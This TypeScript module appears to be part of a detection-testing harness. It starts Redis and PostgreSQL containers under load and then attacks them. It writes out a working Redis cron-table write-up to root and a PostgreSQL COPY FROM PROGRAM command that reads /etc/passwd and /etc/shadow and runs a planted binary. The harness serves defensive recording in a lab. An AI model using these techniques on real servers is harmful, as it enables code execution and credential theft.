import { connect } from 'node:net';
import type { Engine } from '../containers/engine.ts';
import { acts, openShop } from '../containers/shop.ts';
import { waitFor } from '../support/wait.ts';

/** A real workload under load that runs in a private engine, and an attack on it. */
interface RunningWorkload {
  /** The attack, through the workload itself: nothing is executed from outside. */
  attack(): Promise<void>;
  stopLoad(): void;
}

/** What a recording in this folder is made of. */
export interface RecordedWorkload {
  readonly name: string;
  /** Starts it; answers when it is under load. */
  start(engine: Engine): Promise<RunningWorkload>;
}

const sleep = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));

/** nginx, redis and a Perl application; the intruder comes in through a hole of the application. */
const shop: RecordedWorkload = {
  name: 'shop',
  async start(engine) {
    const running = await openShop(engine);
    running.startLoad();
    return {
      async attack() {
        for (const { command } of acts) {
          await running.exploit(command);
          await sleep(500);
        }
      },
      stopLoad: () => {
        running.stopLoad();
      },
    };
  },
};

/** Redis that anyone may ask; the intruder makes it write its database as a cron table (ATT&CK T1053.003). */
const redis: RecordedWorkload = {
  name: 'redis',
  async start(engine) {
    const image = await engine.debianImage();
    const arguments_ = ['--bind', '0.0.0.0', '--protected-mode', 'no', '--save', '5 10', '--dir', '/var/lib/redis'];
    const open = ['--enable-protected-configs', 'yes'];
    await engine.cli('run', '-d', '--name', 'queue', image, '/usr/bin/redis-server', ...arguments_, ...open);
    const host = await engine.cli('inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'queue');
    await waitFor(
      'redis to answer',
      () =>
        talk(host, ['PING']).then(
          (answer) => answer.includes('PONG'),
          () => false,
        ),
      30_000,
    );
    let writes = 0;
    const timer = setInterval(() => {
      talk(host, [`SET key${writes++ % 100} value`, 'GET key1']).catch(() => undefined);
    }, 100);
    return {
      async attack() {
        await talk(host, [
          'CONFIG SET dir /etc/cron.d',
          'CONFIG SET dbfilename update',
          'SET job "\\n* * * * * root id\\n"',
          'SAVE',
        ]);
      },
      stopLoad: () => {
        clearInterval(timer);
      },
    };
  },
};

/** Sends commands in Redis' inline protocol; answers all answers. */
function talk(host: string, commands: readonly string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect({ host, port: 6379, timeout: 10_000 }, () => {
      socket.write([...commands, 'QUIT', ''].join('\r\n'));
    });
    socket.setEncoding('utf8').on('data', (text: string) => {
      answer += text;
    });
    socket.on('error', reject);
    socket.on('timeout', () => socket.destroy(new Error('redis does not answer')));
    socket.on('close', (failed) => {
      if (!failed) resolve(answer);
    });
  });
}

/** PostgreSQL with a table that is written and read; the intruder has its superuser run a program (ATT&CK T1059.004, CVE-2019-9193). */
const postgres: RecordedWorkload = {
  name: 'postgres',
  async start(engine) {
    const image = await engine.debianImage('postgresql');
    const cluster = '-D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf';
    const open = "-c hba_file=/tmp/hba -c listen_addresses='*' -c ssl=off";
    const begin = `echo host all all all trust > /tmp/hba; exec /usr/lib/postgresql/15/bin/postgres ${cluster} ${open}`;
    await engine.cli(
      'run',
      '-d',
      '--init',
      '--name',
      'orders',
      image,
      '/bin/su',
      'postgres',
      '-s',
      '/bin/sh',
      '-c',
      begin,
    );
    const host = await engine.cli('inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'orders');
    const made = (): Promise<boolean> =>
      query(host, 'CREATE TABLE item (id serial, name text)').then(
        () => true,
        () => false,
      );
    await waitFor('postgres to answer', made, 60_000);
    const timer = setInterval(() => {
      query(host, "INSERT INTO item (name) VALUES ('x'); SELECT count(*) FROM item").catch(() => undefined);
    }, 100);
    return {
      async attack() {
        await query(
          host,
          "COPY item (name) FROM PROGRAM 'cat /etc/passwd /etc/shadow; cp /bin/true /tmp/update; /tmp/update'",
        ).catch(() => undefined);
      },
      stopLoad: () => {
        clearInterval(timer);
      },
    };
  },
};

/** One simple query (PostgreSQL 15, section 55.2.3); resolves when it is done, rejects where the server reports an error. */
function query(host: string, sql: string): Promise<void> {
  const message = (kind: string, body: string): Buffer => {
    const length = Buffer.alloc(4);
    length.writeInt32BE(Buffer.byteLength(body) + 4);
    return Buffer.concat([Buffer.from(kind), length, Buffer.from(body)]);
  };
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port: 5432, timeout: 10_000 }, () => {
      socket.write(message('', '\0\x03\0\0user\0postgres\0database\0postgres\0\0'));
    });
    let [received, ready] = [Buffer.alloc(0), 0];
    socket.on('data', (chunk) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 5 && received.length > received.readInt32BE(1)) {
        const kind = String.fromCharCode(received[0] ?? 0);
        received = received.subarray(received.readInt32BE(1) + 1);
        if (kind === 'E') socket.destroy(new Error('the server reports an error'));
        if (kind === 'Z' && ready++ === 0) socket.write(message('Q', `${sql}\0`));
        else if (kind === 'Z') socket.end(message('X', ''));
      }
    });
    socket.on('error', reject);
    socket.on('timeout', () => socket.destroy(new Error('postgres does not answer')));
    socket.on('close', (failed) => {
      if (!failed) resolve();
    });
  });
}

export const recordedWorkloads: readonly RecordedWorkload[] = [shop, redis, postgres];
